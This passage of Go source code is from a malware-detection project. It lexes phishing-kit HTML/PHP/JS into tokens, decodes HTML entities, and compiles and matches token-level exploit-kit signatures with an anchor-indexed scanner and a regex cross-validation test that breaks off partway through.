