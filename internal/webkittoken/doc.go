// Package webkittoken lexes web phishing-kit bundles — HTML markup with
// embedded PHP and JavaScript — into the shared jstoken.Token
// representation under its own abstraction alphabet.
//
// It is the second ingest front-end (the first being the pure-JS lexer in
// internal/jstoken): the webkit ingest profile wraps this package, so the
// clustering and signature layers stay byte-for-byte workload-agnostic.
// The alphabet keeps keyword and punctuator identity (HTML tag names, PHP
// keywords, shared JS/PHP keywords, and a combined operator set) and
// collapses identifiers, strings, numbers and markup text runs to one
// symbol each, mirroring the paper's abstraction.
//
// The lexer has two modes. Markup mode emits tag structure (punctuators
// and tag/attribute names) and collapses character data between tags into
// single Text tokens; `<?php`/`<?=` and open `<script>` tags switch to
// code mode, which lexes PHP/JS-style code (strings, numbers, comments,
// identifiers, operators) until the matching terminator. Unlike the JS
// lexer it never attempts regex literals — a `/` is always a punctuator —
// so hostile input cannot drive quadratic or stuck states; every loop
// iteration consumes at least one byte (fuzzed by FuzzWebkitTokenize).
package webkittoken
