package webkittoken

import (
	"strings"
	"unicode"
)

// Phishing kits hide their markup from naive scanners by entity-encoding
// it: `&lt;script&gt;` carries no '<' byte, so a lexer blind to entities
// tokenizes the whole construct as inert text and every structural
// symbol the signature needs evaporates. DecodeEntities runs ahead of
// tokenization at every entry point (Lex, LexSymbols, Scratch,
// Unpack), so an entity-encoded document lexes identically to its
// decoded twin.

// namedEntities is the kit-relevant subset of HTML named character
// references: the structural characters an encoder must escape to hide
// markup or code, plus the ubiquitous whitespace names. Exotic
// typographic entities decode nowhere in kit code and are left alone.
// nbsp deliberately normalizes to a plain space: the lexer's whitespace
// alphabet is ASCII, and a non-breaking space that survived as U+00A0
// would start a spurious identifier in code mode instead of separating
// tokens the way its author used it.
var namedEntities = map[string]rune{
	"lt": '<', "gt": '>', "amp": '&', "quot": '"', "apos": '\'',
	"nbsp": ' ', "sol": '/', "bsol": '\\', "equals": '=',
	"num": '#', "semi": ';', "colon": ':', "comma": ',',
	"lpar": '(', "rpar": ')', "lbrack": '[', "rbrack": ']',
	"lbrace": '{', "rbrace": '}', "lowbar": '_', "dollar": '$',
	"percnt": '%', "ast": '*', "plus": '+', "excl": '!',
	"quest": '?', "grave": '`', "vert": '|', "Tab": '\t',
	"NewLine": '\n',
}

// maxEntityName bounds the name scan ("NewLine" is the longest).
const maxEntityName = 8

// DecodeEntities decodes named and numeric (&#60; / &#x3C;) HTML
// character references in src in one pass. Decoded output is never
// re-scanned, so `&amp;lt;` yields the literal `&lt;` — exactly what a
// browser renders — and can never double-decode into markup. Sequences
// that are not well-formed references (unknown name, missing semicolon,
// invalid code point) pass through byte-for-byte. When src contains no
// decodable reference it is returned unchanged, allocation-free — the
// overwhelmingly common case on un-encoded documents.
func DecodeEntities(src string) string {
	// Locate the first decodable reference; none means no allocation.
	first := -1
	for i := 0; i < len(src); {
		j := strings.IndexByte(src[i:], '&')
		if j < 0 {
			break
		}
		i += j
		if _, _, ok := parseEntity(src[i:]); ok {
			first = i
			break
		}
		i++
	}
	if first < 0 {
		return src
	}
	var b strings.Builder
	b.Grow(len(src))
	b.WriteString(src[:first])
	for i := first; i < len(src); {
		if src[i] == '&' {
			if r, n, ok := parseEntity(src[i:]); ok {
				b.WriteRune(r)
				i += n
				continue
			}
		}
		b.WriteByte(src[i])
		i++
	}
	return b.String()
}

// parseEntity parses one character reference at the start of s (s[0]
// must be '&'), returning the decoded rune and the reference's byte
// length. Only full, semicolon-terminated references decode; anything
// else reports ok=false and is copied verbatim by the caller.
func parseEntity(s string) (r rune, length int, ok bool) {
	if len(s) < 3 {
		return 0, 0, false
	}
	if s[1] == '#' {
		i := 2
		base := int64(10)
		if s[i] == 'x' || s[i] == 'X' {
			base = 16
			i++
		}
		start := i
		// Accumulate in int64: 8 hex digits reach 0xFFFFFFFF, which would
		// wrap a rune (int32) negative and slip past the MaxRune guard —
		// int64 holds any ≤8-digit value exactly, so wide references like
		// &#xFFFFFFFF; fail the range check and pass through verbatim.
		var v int64
		for i < len(s) && i-start < 8 {
			var d int64
			switch c := s[i]; {
			case isDigit(c):
				d = int64(c - '0')
			case base == 16 && c >= 'a' && c <= 'f':
				d = int64(c-'a') + 10
			case base == 16 && c >= 'A' && c <= 'F':
				d = int64(c-'A') + 10
			default:
				d = -1
			}
			if d < 0 || d >= base {
				break
			}
			v = v*base + d
			i++
		}
		if i == start || i >= len(s) || s[i] != ';' {
			return 0, 0, false
		}
		if v == 0 || v > unicode.MaxRune || (v >= 0xD800 && v <= 0xDFFF) {
			return 0, 0, false
		}
		return rune(v), i + 1, true
	}
	i := 1
	for i < len(s) && i <= maxEntityName && (isAlpha(s[i]) || isDigit(s[i])) {
		i++
	}
	if i >= len(s) || s[i] != ';' {
		return 0, 0, false
	}
	r, ok = namedEntities[s[1:i]]
	if !ok {
		return 0, 0, false
	}
	return r, i + 1, true
}
