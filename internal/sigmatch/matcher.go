// Package sigmatch compiles Kizzle signatures into a scanner that can be
// run over incoming JavaScript, emulating an AV engine's deployment of the
// generated signatures. Matching is performed structurally over the
// normalized token stream (token-aligned), which gives exact semantics for
// the back-references Kizzle emits — Go's RE2 regexp engine deliberately
// has none — and runs in linear time per start offset without regex
// backtracking pathologies.
package sigmatch

import (
	"fmt"

	"kizzle/internal/jstoken"
	"kizzle/internal/siggen"
)

// Compiled is one signature prepared for scanning.
type Compiled struct {
	sig     siggen.Signature
	classes []func(byte) bool // nil for non-class elements
	groups  int
}

// Compile validates the signature and prepares class matchers.
func Compile(sig siggen.Signature) (*Compiled, error) {
	if len(sig.Elements) == 0 {
		return nil, fmt.Errorf("sigmatch: empty signature for family %q", sig.Family)
	}
	c := &Compiled{sig: sig, classes: make([]func(byte) bool, len(sig.Elements))}
	for i, e := range sig.Elements {
		switch e.Kind {
		case siggen.KindLiteral:
		case siggen.KindClass:
			cls, ok := siggen.ClassByName(e.Class)
			if !ok {
				return nil, fmt.Errorf("sigmatch: element %d: unknown class %q", i, e.Class)
			}
			c.classes[i] = cls.Match
			// Group < 0 marks an uncaptured class (abstracted long
			// constants); only captured classes allocate a slot.
			if e.Group >= c.groups {
				c.groups = e.Group + 1
			}
		case siggen.KindBackref:
			if e.Group < 0 {
				return nil, fmt.Errorf("sigmatch: element %d: back-reference without group", i)
			}
		default:
			return nil, fmt.Errorf("sigmatch: element %d: unknown kind %d", i, e.Kind)
		}
	}
	// Back-references must point at groups captured earlier.
	seen := make(map[int]bool, c.groups)
	for i, e := range sig.Elements {
		switch e.Kind {
		case siggen.KindClass:
			if e.Group >= 0 {
				seen[e.Group] = true
			}
		case siggen.KindBackref:
			if !seen[e.Group] {
				return nil, fmt.Errorf("sigmatch: element %d references group %d before capture", i, e.Group)
			}
		}
	}
	return c, nil
}

// Family returns the signature's exploit-kit family label.
func (c *Compiled) Family() string { return c.sig.Family }

// Signature returns the underlying signature.
func (c *Compiled) Signature() siggen.Signature { return c.sig }

// MatchTokens reports whether the signature matches anywhere in the token
// stream, and the token offset of the first match.
func (c *Compiled) MatchTokens(tokens []jstoken.Token) (int, bool) {
	n := len(c.sig.Elements)
	if n > len(tokens) {
		return 0, false
	}
	captures := make([]string, c.groups)
	for start := 0; start+n <= len(tokens); start++ {
		if c.matchAt(tokens, start, captures) {
			return start, true
		}
	}
	return 0, false
}

func (c *Compiled) matchAt(tokens []jstoken.Token, start int, captures []string) bool {
	for i, e := range c.sig.Elements {
		v := tokens[start+i].Value()
		switch e.Kind {
		case siggen.KindLiteral:
			if v != e.Literal {
				return false
			}
		case siggen.KindClass:
			if len(v) < e.MinLen || len(v) > e.MaxLen {
				return false
			}
			match := c.classes[i]
			for b := 0; b < len(v); b++ {
				if !match(v[b]) {
					return false
				}
			}
			if e.Group >= 0 {
				captures[e.Group] = v
			}
		case siggen.KindBackref:
			if v != captures[e.Group] {
				return false
			}
		}
	}
	return true
}

// Match is one signature hit in a scanned document.
type Match struct {
	// Family is the kit family of the matching signature.
	Family string
	// SignatureIndex identifies the signature within the scanner.
	SignatureIndex int
	// TokenOffset is where in the token stream the match begins.
	TokenOffset int
}

// Scanner holds a deployed signature set, like an AV engine's definition
// database.
type Scanner struct {
	sigs []*Compiled
}

// NewScanner compiles all signatures. It fails on the first invalid one.
func NewScanner(sigs []siggen.Signature) (*Scanner, error) {
	s := &Scanner{sigs: make([]*Compiled, 0, len(sigs))}
	for i, sig := range sigs {
		c, err := Compile(sig)
		if err != nil {
			return nil, fmt.Errorf("signature %d: %w", i, err)
		}
		s.sigs = append(s.sigs, c)
	}
	return s, nil
}

// Add compiles and deploys one more signature (signature updates during the
// month-long evaluation).
func (s *Scanner) Add(sig siggen.Signature) error {
	c, err := Compile(sig)
	if err != nil {
		return err
	}
	s.sigs = append(s.sigs, c)
	return nil
}

// Len returns the number of deployed signatures.
func (s *Scanner) Len() int { return len(s.sigs) }

// Scan tokenizes the document (HTML or raw JavaScript) and returns all
// signature matches.
func (s *Scanner) Scan(doc string) []Match {
	return s.ScanTokens(jstoken.LexDocument(doc))
}

// ScanTokens matches all signatures against a pre-tokenized sample.
func (s *Scanner) ScanTokens(tokens []jstoken.Token) []Match {
	var out []Match
	for i, c := range s.sigs {
		if off, ok := c.MatchTokens(tokens); ok {
			out = append(out, Match{Family: c.Family(), SignatureIndex: i, TokenOffset: off})
		}
	}
	return out
}

// Detects reports whether any deployed signature matches the document.
func (s *Scanner) Detects(doc string) bool {
	tokens := jstoken.LexDocument(doc)
	for _, c := range s.sigs {
		if _, ok := c.MatchTokens(tokens); ok {
			return true
		}
	}
	return false
}
