package sigmatch

import (
	"bytes"
	"fmt"
	"runtime"
	"sync"

	"kizzle/internal/jstoken"
	"kizzle/internal/parallel"
	"kizzle/internal/siggen"
)

// classTable is a byte-indexed acceptance table for one character class;
// table form keeps the verification inner loop free of indirect calls.
type classTable [256]bool

func buildClassTable(match func(byte) bool) *classTable {
	var t classTable
	for b := 0; b < 256; b++ {
		t[b] = match(byte(b))
	}
	return &t
}

// Compiled is one signature prepared for scanning.
type Compiled struct {
	sig     siggen.Signature
	classes []*classTable // nil for non-class elements
	groups  int
}

// Compile validates the signature and prepares class matchers.
func Compile(sig siggen.Signature) (*Compiled, error) {
	if len(sig.Elements) == 0 {
		return nil, fmt.Errorf("sigmatch: empty signature for family %q", sig.Family)
	}
	c := &Compiled{sig: sig, classes: make([]*classTable, len(sig.Elements))}
	for i, e := range sig.Elements {
		switch e.Kind {
		case siggen.KindLiteral:
		case siggen.KindClass:
			cls, ok := siggen.ClassByName(e.Class)
			if !ok {
				return nil, fmt.Errorf("sigmatch: element %d: unknown class %q", i, e.Class)
			}
			c.classes[i] = buildClassTable(cls.Match)
			// Group < 0 marks an uncaptured class (abstracted long
			// constants); only captured classes allocate a slot.
			if e.Group >= c.groups {
				c.groups = e.Group + 1
			}
		case siggen.KindBackref:
			if e.Group < 0 {
				return nil, fmt.Errorf("sigmatch: element %d: back-reference without group", i)
			}
			// Grow the capture space from back-references too, so groups
			// derivation does not silently depend on the capturing class
			// appearing in the same signature revision.
			if e.Group >= c.groups {
				c.groups = e.Group + 1
			}
		default:
			return nil, fmt.Errorf("sigmatch: element %d: unknown kind %d", i, e.Kind)
		}
	}
	// Back-references must point at groups captured earlier.
	seen := make(map[int]bool, c.groups)
	for i, e := range sig.Elements {
		switch e.Kind {
		case siggen.KindClass:
			if e.Group >= 0 {
				seen[e.Group] = true
			}
		case siggen.KindBackref:
			if !seen[e.Group] {
				return nil, fmt.Errorf("sigmatch: element %d references group %d before capture", i, e.Group)
			}
		}
	}
	return c, nil
}

// Family returns the signature's exploit-kit family label.
func (c *Compiled) Family() string { return c.sig.Family }

// Signature returns the underlying signature.
func (c *Compiled) Signature() siggen.Signature { return c.sig }

// Groups returns the number of capture slots the signature needs.
func (c *Compiled) Groups() int { return c.groups }

// MatchTokens reports whether the signature matches anywhere in the token
// stream, and the token offset of the first match. This is the reference
// sliding scan; Scanner uses it only for signatures without an anchor.
func (c *Compiled) MatchTokens(tokens []jstoken.Token) (int, bool) {
	n := len(c.sig.Elements)
	if n > len(tokens) {
		return 0, false
	}
	captures := make([]string, c.groups)
	for start := 0; start+n <= len(tokens); start++ {
		if c.matchAt(tokens, start, captures) {
			return start, true
		}
	}
	return 0, false
}

func (c *Compiled) matchAt(tokens []jstoken.Token, start int, captures []string) bool {
	for i, e := range c.sig.Elements {
		v := tokens[start+i].Value()
		switch e.Kind {
		case siggen.KindLiteral:
			if v != e.Literal {
				return false
			}
		case siggen.KindClass:
			if len(v) < e.MinLen || len(v) > e.MaxLen {
				return false
			}
			table := c.classes[i]
			for b := 0; b < len(v); b++ {
				if !table[v[b]] {
					return false
				}
			}
			if e.Group >= 0 {
				captures[e.Group] = v
			}
		case siggen.KindBackref:
			if v != captures[e.Group] {
				return false
			}
		}
	}
	return true
}

// Match is one signature hit in a scanned document.
type Match struct {
	// Family is the kit family of the matching signature.
	Family string
	// SignatureIndex identifies the signature within the scanner.
	SignatureIndex int
	// TokenOffset is where in the token stream the match begins.
	TokenOffset int
}

// anchorRef is one candidate alignment in the anchor index: if a token
// equals the anchor literal at stream position p, signature sig can only
// match starting at p-elem.
type anchorRef struct {
	sig  int
	elem int
}

// Scanner holds a deployed signature set, like an AV engine's definition
// database. Scans are safe for concurrent use; Add is not (swap whole
// scanners to update live deployments, as gateway.Vetter does).
type Scanner struct {
	sigs []*Compiled

	// index maps an anchor literal's normalized value to all candidate
	// alignments sharing it.
	index map[string][]anchorRef
	// unanchored lists signatures with no usable literal element; they
	// keep the sliding scan.
	unanchored []int
	// anchorByte prefilters index lookups: a token can only be an anchor
	// if anchorByte[v[0]] is set and len(v) is within the global bounds.
	// The scan gathers every token's first byte into a flat buffer and
	// skips non-candidates in 64-byte blocks (see nextCandidate), so the
	// per-token cost for the overwhelmingly common non-anchor tokens is a
	// fraction of an array read.
	anchorByte [256]bool
	// anchorMask mirrors anchorByte as 0/1 bytes so a block test is a
	// branch-free OR-accumulation instead of 64 conditional jumps.
	anchorMask [256]byte
	// anchorFirst lists the distinct anchor first bytes; with exactly one,
	// the block skip collapses to bytes.IndexByte (memchr-speed).
	anchorFirst   []byte
	minAnchorLen  int
	maxAnchorLen  int
	maxGroups     int
	anchoredCount int
}

// NewScanner compiles all signatures. It fails on the first invalid one.
func NewScanner(sigs []siggen.Signature) (*Scanner, error) {
	s := &Scanner{sigs: make([]*Compiled, 0, len(sigs))}
	for i, sig := range sigs {
		c, err := Compile(sig)
		if err != nil {
			return nil, fmt.Errorf("signature %d: %w", i, err)
		}
		s.sigs = append(s.sigs, c)
	}
	s.rebuildIndex()
	return s, nil
}

// NewScannerFromCompiled assembles a scanner from already-compiled
// signatures, rebuilding only the (cheap, whole-set) anchor index. A
// Compiled is immutable after Compile, so the same values may be shared by
// any number of scanners — this is what makes per-family incremental
// recompilation possible: publishers keep compiled signatures per family
// and reassemble a scanner from cached parts when only one family's
// signatures changed. The slice is copied; the Compiled values are not.
func NewScannerFromCompiled(sigs []*Compiled) *Scanner {
	s := &Scanner{sigs: append([]*Compiled(nil), sigs...)}
	s.rebuildIndex()
	return s
}

// Add compiles and deploys one more signature (signature updates during the
// month-long evaluation). The anchor index is rebuilt: anchor choice
// depends on literal rarity across the whole deployed set.
func (s *Scanner) Add(sig siggen.Signature) error {
	c, err := Compile(sig)
	if err != nil {
		return err
	}
	s.sigs = append(s.sigs, c)
	s.rebuildIndex()
	return nil
}

// rebuildIndex picks each signature's anchor and rebuilds the token-value
// index. The anchor is the signature's rarest literal, where rarity is the
// literal's frequency across all deployed signatures (a literal shared by
// many signatures, like ";" or "=", generates candidate verifications on
// every occurrence; a kit-specific literal almost never fires). Ties break
// toward the longer literal, which is the more selective token.
func (s *Scanner) rebuildIndex() {
	freq := make(map[string]int)
	for _, c := range s.sigs {
		for _, e := range c.sig.Elements {
			if e.Kind == siggen.KindLiteral && e.Literal != "" {
				freq[e.Literal]++
			}
		}
	}
	s.index = make(map[string][]anchorRef)
	s.unanchored = s.unanchored[:0]
	s.anchorByte = [256]bool{}
	s.anchorMask = [256]byte{}
	s.anchorFirst = s.anchorFirst[:0]
	s.minAnchorLen = 0
	s.maxAnchorLen = 0
	s.maxGroups = 0
	s.anchoredCount = 0
	for i, c := range s.sigs {
		if c.groups > s.maxGroups {
			s.maxGroups = c.groups
		}
		best := -1
		for ei, e := range c.sig.Elements {
			if e.Kind != siggen.KindLiteral || e.Literal == "" {
				continue
			}
			if best < 0 {
				best = ei
				continue
			}
			bl := c.sig.Elements[best].Literal
			if freq[e.Literal] < freq[bl] ||
				(freq[e.Literal] == freq[bl] && len(e.Literal) > len(bl)) {
				best = ei
			}
		}
		if best < 0 {
			s.unanchored = append(s.unanchored, i)
			continue
		}
		s.anchoredCount++
		v := c.sig.Elements[best].Literal
		s.index[v] = append(s.index[v], anchorRef{sig: i, elem: best})
		if !s.anchorByte[v[0]] {
			s.anchorByte[v[0]] = true
			s.anchorMask[v[0]] = 1
			s.anchorFirst = append(s.anchorFirst, v[0])
		}
		if s.minAnchorLen == 0 || len(v) < s.minAnchorLen {
			s.minAnchorLen = len(v)
		}
		if len(v) > s.maxAnchorLen {
			s.maxAnchorLen = len(v)
		}
	}
}

// Len returns the number of deployed signatures.
func (s *Scanner) Len() int { return len(s.sigs) }

// Scan tokenizes the document (HTML or raw JavaScript) and returns all
// signature matches.
func (s *Scanner) Scan(doc string) []Match {
	return s.ScanTokens(jstoken.LexDocument(doc))
}

// ScanTokens matches all signatures against a pre-tokenized sample. The
// result lists at most one match per signature (its first offset), ordered
// by signature index — identical to running every signature's sliding scan.
func (s *Scanner) ScanTokens(tokens []jstoken.Token) []Match {
	var out []Match
	offsets, found := s.scanAnchored(tokens, nil)
	for _, i := range s.unanchored {
		if off, ok := s.sigs[i].MatchTokens(tokens); ok {
			if found == nil {
				found = make([]bool, len(s.sigs))
				offsets = make([]int, len(s.sigs))
			}
			found[i], offsets[i] = true, off
		}
	}
	for i := range s.sigs {
		if found != nil && found[i] {
			out = append(out, Match{Family: s.sigs[i].Family(), SignatureIndex: i, TokenOffset: offsets[i]})
		}
	}
	return out
}

// prefilterBlock is the span the anchor prefilter tests per iteration: a
// 64-byte block of gathered first bytes is ruled out with one branch-free
// OR-accumulation before any per-byte work happens.
const prefilterBlock = 64

// fbPool recycles the gathered first-byte buffers across scans; Scanner
// scans run concurrently, so the scratch cannot live on the Scanner.
var fbPool = sync.Pool{New: func() any { return new([]byte) }}

// nextCandidate returns the smallest index >= pos whose gathered first
// byte could start an anchor, or -1 when the rest of the stream has none.
// With one distinct anchor first byte the skip is a single IndexByte call
// (memchr-speed); otherwise 64-byte blocks are OR-accumulated through
// anchorMask and only blocks containing a hit are scanned per byte.
func (s *Scanner) nextCandidate(fb []byte, pos int) int {
	if len(s.anchorFirst) == 1 {
		d := bytes.IndexByte(fb[pos:], s.anchorFirst[0])
		if d < 0 {
			return -1
		}
		return pos + d
	}
	for pos < len(fb) {
		end := pos + prefilterBlock
		if end > len(fb) {
			end = len(fb)
		}
		var acc byte
		for _, c := range fb[pos:end] {
			acc |= s.anchorMask[c]
		}
		if acc == 0 {
			pos = end
			continue
		}
		for ; pos < end; pos++ {
			if s.anchorByte[fb[pos]] {
				return pos
			}
		}
	}
	return -1
}

// scanAnchored runs the single-pass anchor scan. One capture buffer is
// reused across all candidate verifications (each verification writes a
// group before any back-reference reads it, so no clearing is needed).
// When stop is non-nil, the scan aborts as soon as *stop is set by a
// successful verification — the Detects fast path.
//
// The scan is two-phase: a gather pass records every token's normalized
// first byte into a flat buffer, then the candidate loop skips over
// non-anchor stretches with nextCandidate's block prefilter instead of
// re-testing token by token. The candidate set and its order are exactly
// those of the per-token scalar scan (pinned by the reference test).
func (s *Scanner) scanAnchored(tokens []jstoken.Token, stop *bool) (offsets []int, found []bool) {
	if s.anchoredCount == 0 {
		return nil, nil
	}
	var captures []string
	if s.maxGroups > 0 {
		captures = make([]string, s.maxGroups)
	}
	fbp := fbPool.Get().(*[]byte)
	fb := *fbp
	if cap(fb) < len(tokens) {
		fb = make([]byte, len(tokens))
	}
	fb = fb[:len(tokens)]
	for i := range tokens {
		// Empty values gather as 0; even if 0 is an anchor byte the
		// length re-check below rejects the false candidate, so the
		// prefilter only ever over-approximates.
		v := tokens[i].Value()
		if len(v) > 0 {
			fb[i] = v[0]
		} else {
			fb[i] = 0
		}
	}
	defer func() {
		*fbp = fb
		fbPool.Put(fbp)
	}()
	remaining := s.anchoredCount
	for pos := 0; pos < len(tokens); pos++ {
		pos = s.nextCandidate(fb, pos)
		if pos < 0 {
			break
		}
		v := tokens[pos].Value()
		// The block prefilter only tests the first byte; re-check the
		// length bounds before paying for the map lookup.
		if len(v) < s.minAnchorLen || len(v) > s.maxAnchorLen {
			continue
		}
		cands, ok := s.index[v]
		if !ok {
			continue
		}
		for _, cand := range cands {
			if found != nil && found[cand.sig] {
				continue
			}
			start := pos - cand.elem
			c := s.sigs[cand.sig]
			if start < 0 || start+len(c.sig.Elements) > len(tokens) {
				continue
			}
			if !c.matchAt(tokens, start, captures) {
				continue
			}
			if found == nil {
				found = make([]bool, len(s.sigs))
				offsets = make([]int, len(s.sigs))
			}
			found[cand.sig], offsets[cand.sig] = true, start
			if stop != nil {
				*stop = true
				return offsets, found
			}
			remaining--
			if remaining == 0 {
				return offsets, found
			}
		}
	}
	return offsets, found
}

// Detects reports whether any deployed signature matches the document.
func (s *Scanner) Detects(doc string) bool {
	return s.DetectsTokens(jstoken.LexDocument(doc))
}

// DetectsTokens reports whether any deployed signature matches the
// pre-tokenized sample, stopping at the first hit.
func (s *Scanner) DetectsTokens(tokens []jstoken.Token) bool {
	var hit bool
	s.scanAnchored(tokens, &hit)
	if hit {
		return true
	}
	for _, i := range s.unanchored {
		if _, ok := s.sigs[i].MatchTokens(tokens); ok {
			return true
		}
	}
	return false
}

// ScanAll scans many pre-tokenized samples concurrently with a worker pool
// and returns per-sample matches, aligned with the input. This is the
// batched entry point for deployment channels that vet documents in bulk
// (CDN admission queues, signature-server scan APIs).
func (s *Scanner) ScanAll(streams [][]jstoken.Token) [][]Match {
	out := make([][]Match, len(streams))
	parallel.ForEach(len(streams), runtime.GOMAXPROCS(0), 1, func(_, i int) {
		out[i] = s.ScanTokens(streams[i])
	})
	return out
}

// ScanDocuments tokenizes and scans raw documents concurrently; lexing —
// the dominant per-document cost — runs inside the pool too.
func (s *Scanner) ScanDocuments(docs []string) [][]Match {
	out := make([][]Match, len(docs))
	parallel.ForEach(len(docs), runtime.GOMAXPROCS(0), 1, func(_, i int) {
		out[i] = s.Scan(docs[i])
	})
	return out
}
