package sigmatch

import (
	"fmt"

	"kizzle/internal/jstoken"
	"kizzle/internal/siggen"
)

// CompiledMulti is a compiled multi-sequence signature: its parts must
// match at strictly increasing token offsets, with shared capture groups
// so back-references work across parts.
type CompiledMulti struct {
	sig    siggen.MultiSignature
	parts  []*partMatcher
	groups int
}

type partMatcher struct {
	elements []siggen.Element
	classes  []func(byte) bool
}

// CompileMulti validates and prepares a multi-sequence signature.
func CompileMulti(sig siggen.MultiSignature) (*CompiledMulti, error) {
	if len(sig.Parts) == 0 {
		return nil, fmt.Errorf("sigmatch: empty multi-signature for family %q", sig.Family)
	}
	c := &CompiledMulti{sig: sig}
	seen := make(map[int]bool)
	for pi, part := range sig.Parts {
		if len(part.Elements) == 0 {
			return nil, fmt.Errorf("sigmatch: part %d is empty", pi)
		}
		pm := &partMatcher{
			elements: part.Elements,
			classes:  make([]func(byte) bool, len(part.Elements)),
		}
		for i, e := range part.Elements {
			switch e.Kind {
			case siggen.KindLiteral:
			case siggen.KindClass:
				cls, ok := siggen.ClassByName(e.Class)
				if !ok {
					return nil, fmt.Errorf("sigmatch: part %d element %d: unknown class %q", pi, i, e.Class)
				}
				pm.classes[i] = cls.Match
				if e.Group >= 0 {
					seen[e.Group] = true
					if e.Group >= c.groups {
						c.groups = e.Group + 1
					}
				}
			case siggen.KindBackref:
				if e.Group < 0 || !seen[e.Group] {
					return nil, fmt.Errorf("sigmatch: part %d element %d: back-reference to uncaptured group %d", pi, i, e.Group)
				}
				// Uniform groups derivation: the capture space covers
				// back-references too, matching Compile.
				if e.Group >= c.groups {
					c.groups = e.Group + 1
				}
			default:
				return nil, fmt.Errorf("sigmatch: part %d element %d: unknown kind %d", pi, i, e.Kind)
			}
		}
		c.parts = append(c.parts, pm)
	}
	return c, nil
}

// Family returns the signature's family label.
func (c *CompiledMulti) Family() string { return c.sig.Family }

// MatchTokens reports whether at least MinParts parts (all parts when
// MinParts is 0) match at strictly increasing token offsets. Parts are
// placed left to right with backtracking over placements and over which
// parts to skip.
func (c *CompiledMulti) MatchTokens(tokens []jstoken.Token) (int, bool) {
	need := c.sig.MinParts
	if need <= 0 || need > len(c.parts) {
		need = len(c.parts)
	}
	captures := make([]string, c.groups)
	return 0, c.place(tokens, 0, 0, 0, need, captures)
}

// place tries to satisfy the quorum starting with part pi at offsets >= from.
func (c *CompiledMulti) place(tokens []jstoken.Token, pi, from, matched, need int, captures []string) bool {
	if matched >= need {
		return true
	}
	if matched+len(c.parts)-pi < need {
		return false // not enough parts left
	}
	pm := c.parts[pi]
	n := len(pm.elements)
	for start := from; start+n <= len(tokens); start++ {
		// Snapshot captures so a failed downstream placement can retry
		// with different bindings.
		snapshot := append([]string(nil), captures...)
		if !pm.matchAt(tokens, start, captures) {
			copy(captures, snapshot)
			continue
		}
		if c.place(tokens, pi+1, start+n, matched+1, need, captures) {
			return true
		}
		copy(captures, snapshot)
	}
	// Skip part pi entirely.
	return c.place(tokens, pi+1, from, matched, need, captures)
}

func (pm *partMatcher) matchAt(tokens []jstoken.Token, start int, captures []string) bool {
	for i, e := range pm.elements {
		v := tokens[start+i].Value()
		switch e.Kind {
		case siggen.KindLiteral:
			if v != e.Literal {
				return false
			}
		case siggen.KindClass:
			if len(v) < e.MinLen || len(v) > e.MaxLen {
				return false
			}
			match := pm.classes[i]
			for b := 0; b < len(v); b++ {
				if !match(v[b]) {
					return false
				}
			}
			if e.Group >= 0 {
				captures[e.Group] = v
			}
		case siggen.KindBackref:
			if v != captures[e.Group] {
				return false
			}
		}
	}
	return true
}

// Detects reports whether the multi-signature matches the document.
func (c *CompiledMulti) Detects(doc string) bool {
	_, ok := c.MatchTokens(jstoken.LexDocument(doc))
	return ok
}
