// Package sigmatch compiles Kizzle signatures into a scanner that can be
// run over incoming JavaScript, emulating an AV engine's deployment of the
// generated signatures. Matching is performed structurally over the
// normalized token stream (token-aligned), which gives exact semantics for
// the back-references Kizzle emits — Go's RE2 regexp engine deliberately
// has none — and runs in linear time per start offset without regex
// backtracking pathologies.
//
// Deployment-side scanning is anchor-indexed: at compile time the scanner
// picks each signature's rarest literal element as an anchor and builds an
// index from token value to candidate (signature, anchor offset)
// alignments. A scan then walks the token stream once and runs full
// verification only at candidate alignments, so cost scales with anchor
// hits instead of signatures × offsets. Signatures without a literal
// element fall back to the sliding scan.
//
// ScanAll / ScanDocuments fan a batch out across a worker pool —
// the entry points for bulk deployment channels (sigserve's POST /scan,
// gateway.Vetter.VetAll). Compile and NewScannerFromCompiled split
// per-signature compilation from whole-set index construction, which is
// what lets kizzle.MatcherCache rebuild a published set incrementally
// when only some families' signatures changed.
package sigmatch
