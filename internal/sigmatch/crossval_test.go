package sigmatch

import (
	"fmt"
	"math/rand"
	"regexp"
	"strings"
	"testing"

	"kizzle/internal/jstoken"
	"kizzle/internal/siggen"
)

// goRegex renders a signature in Go's RE2 dialect (plain groups, no
// back-references). Only valid for signatures without KindBackref.
func goRegex(sig siggen.Signature) (string, bool) {
	var sb strings.Builder
	for _, e := range sig.Elements {
		switch e.Kind {
		case siggen.KindLiteral:
			sb.WriteString(regexp.QuoteMeta(e.Literal))
		case siggen.KindClass:
			cls := e.Class
			if e.MinLen == e.MaxLen {
				fmt.Fprintf(&sb, "%s{%d}", cls, e.MinLen)
			} else {
				fmt.Fprintf(&sb, "%s{%d,%d}", cls, e.MinLen, e.MaxLen)
			}
		case siggen.KindBackref:
			return "", false
		}
	}
	return sb.String(), true
}

// normalize renders the token stream the way AV normalization would see it:
// quote-stripped token values concatenated.
func normalize(tokens []jstoken.Token) string {
	var sb strings.Builder
	for _, t := range tokens {
		sb.WriteString(t.Value())
	}
	return sb.String()
}

// TestCrossValidateAgainstRegexp checks the token-aligned matcher against
// Go's regexp engine: whenever the structural matcher reports a match, the
// rendered regex must match the normalized text too (the converse does not
// hold — a regex may match across token boundaries).
func TestCrossValidateAgainstRegexp(t *testing.T) {
	rng := rand.New(rand.NewSource(31))
	for iter := 0; iter < 40; iter++ {
		// Build a small cluster with randomized names.
		n := 2 + rng.Intn(4)
		srcs := make([]string, n)
		for i := range srcs {
			id := randIdent(rng)
			srcs[i] = `var ` + id + ` = window["` + randIdent(rng) + `"](` + fmt.Sprint(10+rng.Intn(90)) + `); ` +
				id + `.go("` + randIdent(rng) + `");`
		}
		samples := make([][]jstoken.Token, n)
		for i, s := range srcs {
			samples[i] = jstoken.Lex(s)
		}
		sig, err := siggen.Generate("X", samples, siggen.Config{MinTokens: 5, MaxTokens: 200})
		if err != nil {
			t.Fatalf("iter %d: %v", iter, err)
		}
		pattern, ok := goRegex(sig)
		if !ok {
			continue // back-references: RE2 cannot express them
		}
		re, err := regexp.Compile(pattern)
		if err != nil {
			t.Fatalf("iter %d: rendered regex does not compile: %v\n%s", iter, err, pattern)
		}
		c, err := Compile(sig)
		if err != nil {
			t.Fatal(err)
		}
		// Probe with source samples plus fresh variants and mutants.
		probes := append([]string(nil), srcs...)
		probes = append(probes,
			`var `+randIdent(rng)+` = window["`+randIdent(rng)+`"](55); `+randIdent(rng)+`.go("x");`,
			`completely different code`,
			srcs[0]+" trailing();",
		)
